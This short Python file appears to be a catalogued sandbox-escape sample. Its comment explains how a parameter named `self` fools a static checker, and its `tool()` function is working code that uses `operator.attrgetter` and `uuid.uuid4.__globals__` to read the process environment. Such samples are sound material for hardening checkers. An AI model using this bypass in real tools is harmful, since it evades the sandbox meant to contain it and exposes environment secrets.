# family: env
# Escape: a module-level helper whose parameter is named `self` returns type(self). The checker accepts
# type(self) because of the parameter's *name*, but any object can be passed: here an operator.attrgetter,
# so kind_of() hands out the attrgetter class. Instantiated with a name built at run time it reads
# uuid.uuid4.__globals__ (uuid imports os at top level) and os.environ is the process environment.
import operator
import uuid


def kind_of(self):
    return type(self)


def tool(prefix: str = "") -> dict:
    getter = kind_of(operator.attrgetter("hex"))
    edge = "_" * 2
    namespace = getter(edge + "globals" + edge)(uuid.uuid4)
    return {k: v for k, v in namespace["os"].environ.items() if k.startswith(prefix)}
